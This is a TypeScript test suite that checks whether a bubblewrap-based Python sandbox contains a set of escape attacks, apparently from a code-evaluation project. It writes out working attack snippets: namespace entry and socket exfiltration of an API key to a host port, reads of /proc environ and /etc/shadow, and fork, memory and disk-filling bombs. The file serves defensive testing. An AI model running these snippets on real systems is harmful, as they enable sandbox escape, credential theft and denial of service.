// Generated code that attacks the sandbox, the way the drift suite runs samples: each attack must fail inside, with the
// audit hook switched off (it is defence in depth, not the boundary), once with this process (root in CI) as the
// caller and once with an unprivileged caller (test/support/sandbox-driver.ts started as uid 65534). The host keeps
// an API key in the caller's environment, a TCP server on 127.0.0.1, a Unix socket (and an abstract one), and folders
// an escaped process could write; none of them may be reached, nothing may be left running.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { executeSample, sandboxCapabilities, type ExecutionOutcome, type ExecutionRequest } from '../../server/src/environments/sandbox.js';

const PYTHON = process.env.ANACHRON_SANDBOX_PYTHON ?? '/usr/bin/python3';
const ROOT = process.getuid?.() === 0;
const UNPRIVILEGED_UID = 65534;
const CALL = 'def check(candidate):\n    candidate()\n';
const SECRET = `sk-anachron-${randomUUID()}`;
const MARKER = `anachron-attack-${randomUUID()}`;

interface Host {
  world: string;
  port: number;
  unixPath: string;
  abstractName: string;
  connections: string[];
}

interface Attack {
  name: string;
  /** Python defining f(); HOST_* placeholders are filled in from the host. */
  code: string;
  request?: Partial<ExecutionRequest>;
  /** The audit hook stays on (the attack is about getting around it). */
  withAuditHook?: boolean;
  verify(outcome: ExecutionOutcome, host: Host): void;
}

const noWrites = (outcome: ExecutionOutcome) => assert.doesNotMatch(outcome.stdout ?? '', /^WROTE /m, outcome.stdout);

const ATTACKS: Attack[] = [
  {
    name: 'remount / read-write (mount(8) and mount(2)), then write outside the working folder',
    code: `import ctypes, subprocess
def f():
    print("mount(8)", subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True).returncode)
    print("mount(2)", ctypes.CDLL(None, use_errno=True).mount(None, b"/", None, 32 | 4096, None))
    print("mount(2) /usr", ctypes.CDLL(None, use_errno=True).mount(None, b"/usr", None, 32 | 4096, None))
    for path in [HOST_WORLD + "/escaped-remount", "/usr/anachron-escaped", "/escaped"]:
        try:
            open(path, "w").write("x")
            print("WROTE", path)
        except OSError as e:
            print("refused", path, e)
`,
    verify(outcome, host) {
      noWrites(outcome);
      assert.match(outcome.stdout ?? '', /mount\(2\) -1/);
      assert.equal(existsSync(join(host.world, 'escaped-remount')), false);
      assert.equal(existsSync('/usr/anachron-escaped'), false);
    },
  },
  {
    name: 'nsenter into the host\'s mount and network namespaces and send the API key to the host\'s 127.0.0.1',
    code: `import ctypes, os, socket, subprocess, sys
SEND = "import os, socket\\ns = socket.create_connection(('127.0.0.1', HOST_PORT), timeout=2)\\ns.sendall(os.environ.get('OPENAI_API_KEY', 'none').encode())\\n"
def f():
    r = subprocess.run(["nsenter", "-t", "1", "-m", "-n", "--", sys.executable, "-c", SEND], capture_output=True, timeout=20)
    print("nsenter", r.returncode, r.stderr[-300:])
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for ns in ("net", "mnt", "user"):
            try:
                fd = os.open("/proc/%s/ns/%s" % (pid, ns), os.O_RDONLY)
            except OSError as e:
                print("open", pid, ns, e)
                continue
            print("setns", pid, ns, libc.setns(fd, 0), ctypes.get_errno())
    try:
        s = socket.create_connection(("127.0.0.1", HOST_PORT), timeout=2)
        s.sendall(os.environ.get("OPENAI_API_KEY", "none").encode())
        print("WROTE to the host server")
    except OSError as e:
        print("connect", e)
`,
    verify(outcome, host) {
      noWrites(outcome);
      assert.deepEqual(host.connections, []);
      assert.doesNotMatch(JSON.stringify(outcome), new RegExp(SECRET));
    },
  },
  {
    name: 'read the API key from the host\'s /proc (environ and cmdline of every process)',
    code: `import os
def f():
    seen = 0
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        seen += 1
        for name in ("environ", "cmdline"):
            try:
                data = open("/proc/%s/%s" % (pid, name), "rb").read()
            except OSError:
                continue
            print(pid, name, data[:4000])
    print("processes seen", seen, "own environment", sorted(os.environ))
`,
    verify(outcome) {
      assert.equal(outcome.outcome, 'pass', JSON.stringify(outcome));
      assert.doesNotMatch(JSON.stringify(outcome), new RegExp(SECRET));
      const seen = Number(/processes seen (\d+)/.exec(outcome.stdout ?? '')?.[1]);
      assert.ok(seen <= 4, `the sandbox sees only its own processes (${seen})`);
      assert.doesNotMatch(outcome.stdout ?? '', /OPENAI_API_KEY/);
    },
  },
  {
    name: 'a child interpreter (no audit hook in it) writes outside and connects to a Unix socket outside',
    withAuditHook: true,
    code: `import subprocess, sys
CHILD = "open(%r, 'w').write('x')\\nimport socket\\ns = socket.socket(socket.AF_UNIX)\\ns.connect(%r)\\ns.sendall(b'child')\\n" % (HOST_WORLD + "/escaped-child", HOST_UNIX)
def f():
    r = subprocess.run([sys.executable, "-c", CHILD], capture_output=True)
    print("child", r.returncode, r.stderr[-400:])
`,
    verify(outcome, host) {
      assert.match(outcome.stdout ?? '', /child 1 b'Traceback/, 'the child interpreter ran, and failed');
      assert.equal(existsSync(join(host.world, 'escaped-child')), false);
      assert.deepEqual(host.connections, []);
    },
  },
  {
    name: 'connect to a Unix socket outside (a path and an abstract name)',
    code: `import socket
def f():
    for address in [HOST_UNIX, "\\0" + HOST_ABSTRACT]:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(address)
            s.sendall(b"unix")
            print("WROTE to", repr(address))
        except OSError as e:
            print("refused", repr(address), e)
`,
    verify(outcome, host) {
      noWrites(outcome);
      assert.deepEqual(host.connections, []);
    },
  },
  {
    name: 'read /etc/shadow and the host\'s /etc/passwd, /root',
    code: `import os
def f():
    for path in ["/etc/shadow", "/etc/gshadow", "/etc/passwd", "/etc/sudoers"]:
        try:
            print(path, repr(open(path).read()[:2000]))
        except OSError as e:
            print("refused", path, e)
    for path in ["/root", "/home", HOST_WORLD]:
        try:
            print(path, os.listdir(path))
        except OSError as e:
            print("refused", path, e)
`,
    verify(outcome, host) {
      const out = outcome.stdout ?? '';
      assert.match(out, /refused \/etc\/shadow/);
      assert.doesNotMatch(out, /root:[^x:]*:\d{4,}/, 'no password hash line');
      assert.doesNotMatch(out, /_apt|messagebus|systemd/, 'the host\'s /etc/passwd is not shown');
      assert.ok(!out.split('\n').some((line) => line.startsWith(`${host.world} [`)), 'the host folder is not listed');
    },
  },
  {
    name: 'fill the disk',
    request: { workDirMb: 32, timeoutMs: 30_000 },
    code: `import os
def f():
    total = 0
    chunk = b"x" * (1 << 20)
    for place in [".", "/dev/shm", "/tmp", "/var/tmp", HOST_WORLD]:
        i = 0
        try:
            while True:
                with open("%s/fill%d" % (place, i), "wb") as fh:
                    for _ in range(8):
                        fh.write(chunk)
                        total += len(chunk)
                i += 1
        except OSError as e:
            print("stopped", place, total >> 20, "MiB", e.errno)
    print("total", total >> 20)
`,
    verify(outcome, host) {
      const total = Number(/total (\d+)/.exec(outcome.stdout ?? '')?.[1]);
      assert.ok(total <= 32 + 64 + 2, `at most the working folder and /dev/shm (${total} MiB): ${outcome.stdout}`);
      assert.match(outcome.stdout ?? '', /stopped \. \d+ MiB 28/, 'ENOSPC in the working folder');
      assert.deepEqual(readdirSync(host.world).filter((n) => n.startsWith('fill')), []);
    },
  },
  {
    name: 'new user namespaces, kernel keyrings, BPF, perf events',
    code: `import ctypes, os, subprocess
def f():
    print("unshare(1)", subprocess.run(["unshare", "-U", "-r", "id"], capture_output=True).returncode)
    libc = ctypes.CDLL(None, use_errno=True)
    for name, nr in [("unshare", 272), ("keyctl", 250), ("bpf", 321), ("perf_event_open", 298)]:
        if os.uname().machine != "x86_64":
            break
        print(name, libc.syscall(nr, 0x10000000, 0, 0, 0, 0), ctypes.get_errno())
`,
    verify(outcome) {
      const out = outcome.stdout ?? '';
      assert.doesNotMatch(out, /unshare\(1\) 0\b/);
      for (const name of ['unshare', 'keyctl', 'bpf', 'perf_event_open']) if (out.includes(`${name} `)) assert.match(out, new RegExp(`${name} -1 1\\b`), out);
    },
  },
  {
    name: 'ptrace (attach to pid 1, trace itself)',
    code: `import ctypes
def f():
    libc = ctypes.CDLL(None, use_errno=True)
    print("attach", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())
    print("traceme", libc.ptrace(0, 0, 0, 0), ctypes.get_errno())
`,
    verify(outcome) {
      assert.match(outcome.stdout ?? '', /attach -1 1\b/);
      assert.match(outcome.stdout ?? '', /traceme -1 1\b/);
    },
  },
  {
    name: 'raise the resource limits back',
    code: `import resource
def f():
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
`,
    verify(outcome) {
      assert.equal(outcome.outcome, 'hard-fail');
      assert.match(outcome.errorType ?? '', /ValueError|PermissionError|OSError/);
    },
  },
  {
    name: 'signal every process it can (kill -1) and the caller',
    code: `import os, signal
def f():
    try:
        os.kill(HOST_PID, signal.SIGKILL)
        print("WROTE a signal to the caller")
    except OSError as e:
        print("refused", e)
    os.kill(-1, signal.SIGKILL)
`,
    verify(outcome) {
      noWrites(outcome);
      assert.equal(outcome.outcome, 'hard-fail');
    },
  },
  {
    name: 'fork bomb',
    request: { maxProcesses: 4, timeoutMs: 15_000 },
    code: `import os
def f():
    while True:
        os.fork()
`,
    verify(outcome) {
      assert.ok(outcome.outcome === 'hard-fail' || outcome.outcome === 'timeout', JSON.stringify(outcome));
      assert.ok(outcome.durationMs < 15_000);
    },
  },
  {
    name: 'thread bomb',
    request: { timeoutMs: 15_000 },
    code: `import threading, time
def f():
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
`,
    verify(outcome) {
      assert.equal(outcome.outcome, 'hard-fail', JSON.stringify(outcome));
      assert.match(outcome.errorType ?? '', /RuntimeError|MemoryError|OSError/);
    },
  },
  {
    name: 'memory bomb',
    request: { memoryMb: 256 },
    code: `def f():
    chunks = []
    while True:
        chunks.append(bytearray(16 * 1024 * 1024))
`,
    verify(outcome) {
      assert.equal(outcome.errorType, 'MemoryError', JSON.stringify(outcome));
    },
  },
  {
    name: 'sleep forever (in a setsid daemon, and itself)',
    request: { timeoutMs: 2000 },
    code: `import os, time
def f():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1000)
        os._exit(0)
    time.sleep(1000)
`,
    verify(outcome) {
      assert.equal(outcome.outcome, 'timeout', JSON.stringify(outcome));
      assert.ok(outcome.durationMs < 6000);
    },
  },
  {
    name: 'a daemon left running after the sample passes',
    code: `import os, time
def f():
    if os.fork() == 0:
        os.setsid()
        time.sleep(1000)
`,
    verify(outcome) {
      assert.equal(outcome.outcome, 'pass', JSON.stringify(outcome));
    },
  },
  {
    name: 'stdout spam',
    code: `import sys
def f():
    for _ in range(500):
        sys.stdout.write("x" * 100_000)
`,
    verify(outcome) {
      assert.equal(outcome.outcome, 'pass');
      assert.ok((outcome.stdout ?? '').length < 64 * 1024);
    },
  },
];

function fill(code: string, host: Host): string {
  return code
    .replaceAll('HOST_WORLD', JSON.stringify(host.world))
    .replaceAll('HOST_PORT', String(host.port))
    .replaceAll('HOST_UNIX', JSON.stringify(host.unixPath))
    .replaceAll('HOST_ABSTRACT', JSON.stringify(host.abstractName))
    .replaceAll('HOST_PID', String(process.pid));
}

function requestFor(attack: Attack, host: Host): ExecutionRequest {
  return {
    python: { argv: [PYTHON], env: { ANACHRON_TEST_MARKER: MARKER } },
    code: fill(attack.code, host),
    harness: CALL,
    entryPoint: 'f',
    timeoutMs: 20_000,
    memoryMb: 1024,
    ...(attack.withAuditHook ? {} : { disable: ['audit-hook'] }),
    ...attack.request,
  };
}

/** Processes whose environment holds the marker (any sample's, or what it started). */
function processesLeft(): number[] {
  const found: number[] = [];
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      if (readFileSync(`/proc/${name}/environ`).includes(MARKER)) found.push(Number(name));
    } catch {
      // gone, or not ours to read
    }
  }
  return found;
}

async function noneLeft(): Promise<number[]> {
  let left = processesLeft();
  for (let i = 0; i < 40 && left.length > 0; i++) {
    await new Promise((r) => setTimeout(r, 50));
    left = processesLeft();
  }
  return left;
}

/** Makes every folder above `dir` traversable (not listable) for other users, so an escaped process could write. */
function traversable(dir: string): void {
  for (let d = dirname(dir); d !== dirname(d); d = dirname(d)) {
    const mode = statSync(d).mode;
    if ((mode & 0o001) === 0) chmodSync(d, (mode & 0o7777) | 0o001);
  }
}

let scratch = '';
let host: Host;
const servers: Server[] = [];

before(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'anachron-attacks-'));
  const world = join(scratch, 'world');
  mkdirSync(world);
  chmodSync(scratch, 0o755);
  chmodSync(world, 0o1777);
  traversable(scratch);
  const connections: string[] = [];
  const record = (what: string) => (s: import('node:net').Socket) => {
    connections.push(what);
    s.on('data', (b) => connections.push(`${what}: ${b.toString('utf8')}`));
    s.on('error', () => undefined);
    setTimeout(() => s.destroy(), 500);
  };
  const tcp = createServer(record('tcp'));
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  const unixPath = join(world, 'host.sock');
  const unix = createServer(record('unix'));
  await new Promise<void>((r) => unix.listen(unixPath, r));
  chmodSync(unixPath, 0o777);
  const abstractName = `anachron-${randomUUID()}`;
  const abstract = createServer(record('abstract'));
  await new Promise<void>((r) => abstract.listen(`\0${abstractName}`, r));
  servers.push(tcp, unix, abstract);
  host = { world, port: (tcp.address() as { port: number }).port, unixPath, abstractName, connections };
});

after(() => {
  for (const s of servers) s.close();
  rmSync(scratch, { recursive: true, force: true });
});

function suite(caller: string, skip: string | false, runAll: () => Promise<(ExecutionOutcome | Error)[]>): void {
  describe(`sandbox attacks, caller ${caller}`, { skip }, () => {
    let outcomes: (ExecutionOutcome | Error)[] = [];
    before(async () => {
      host.connections.length = 0;
      outcomes = await runAll();
    });
    ATTACKS.forEach((attack, i) => {
      test(attack.name, () => {
        const outcome = outcomes[i];
        if (outcome instanceof Error || outcome === undefined) throw outcome ?? new Error('no outcome');
        if (process.env.ANACHRON_ATTACKS_VERBOSE) process.stderr.write(`--- ${attack.name}\n${JSON.stringify({ ...outcome, stdout: outcome.stdout?.slice(0, 3000) }, null, 1)}\n`);
        assert.ok(outcome.isolation.includes('bubblewrap'), outcome.isolation.join(','));
        assert.notEqual(outcome.phase, 'define', `the attack itself ran: ${outcome.message}`);
        attack.verify(outcome, host);
      });
    });
    test('nothing reached the host: no connection, no file, no secret, no process left', async () => {
      assert.deepEqual(host.connections, []);
      assert.deepEqual(readdirSync(host.world).filter((n) => n !== 'host.sock'), []);
      for (const o of outcomes) assert.doesNotMatch(JSON.stringify(o), new RegExp(SECRET));
      assert.deepEqual(await noneLeft(), []);
    });
  });
}

const unprivilegedSkip = !ROOT
  ? 'this process is not root: it is the unprivileged caller (the root caller runs where tests run as root, as in CI)'
  : spawnSync('setpriv', [`--reuid=${UNPRIVILEGED_UID}`, `--regid=${UNPRIVILEGED_UID}`, '--clear-groups', '--', 'test', '-r', join(__dirname, '..', '..', 'node_modules', 'tsx', 'package.json')]).status === 0
    ? false
    : `uid ${UNPRIVILEGED_UID} cannot read this checkout (or there is no setpriv): the unprivileged caller cannot be started`;

suite(ROOT ? 'root' : `uid ${process.getuid?.()}`, process.platform === 'linux' ? false : 'Linux only', async () => {
  const caps = await sandboxCapabilities();
  assert.ok(caps.boundary, caps.refusal);
  const saved = process.env.OPENAI_API_KEY;
  process.env.OPENAI_API_KEY = SECRET;
  try {
    const out: (ExecutionOutcome | Error)[] = [];
    for (const attack of ATTACKS) out.push(await executeSample(requestFor(attack, host)).catch((e: Error) => e));
    return out;
  } finally {
    if (saved === undefined) delete process.env.OPENAI_API_KEY;
    else process.env.OPENAI_API_KEY = saved;
  }
});

suite(`uid ${UNPRIVILEGED_UID} (not root)`, process.platform !== 'linux' ? 'Linux only' : unprivilegedSkip, async () => {
  const requests = join(host.world, `requests-${randomUUID()}.json`);
  writeFileSync(requests, JSON.stringify(ATTACKS.map((a) => requestFor(a, host))));
  chmodSync(requests, 0o644);
  const home = mkdtempSync(join(scratch, 'home-'));
  chmodSync(home, 0o777);
  const driver = spawnSync('setpriv', [`--reuid=${UNPRIVILEGED_UID}`, `--regid=${UNPRIVILEGED_UID}`, '--clear-groups', '--',
    process.execPath, '--import', 'tsx', join(__dirname, '..', 'support', 'sandbox-driver.ts'), requests], {
    cwd: join(__dirname, '..', '..'),
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, TMPDIR: home, OPENAI_API_KEY: SECRET },
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
    timeout: 10 * 60_000,
  });
  rmSync(requests, { force: true });
  const lines = driver.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { capabilities?: { root: boolean; refusal?: string }; ok?: ExecutionOutcome; error?: { name: string; message: string } });
  const caps = lines.shift()?.capabilities;
  assert.ok(caps, `the driver did not start: ${driver.stderr}`);
  assert.equal(caps.root, false);
  assert.equal(caps.refusal, undefined, caps.refusal);
  rmSync(home, { recursive: true, force: true });
  return lines.map((l) => l.ok ?? Object.assign(new Error(l.error?.message), { name: l.error?.name ?? 'Error' }));
});
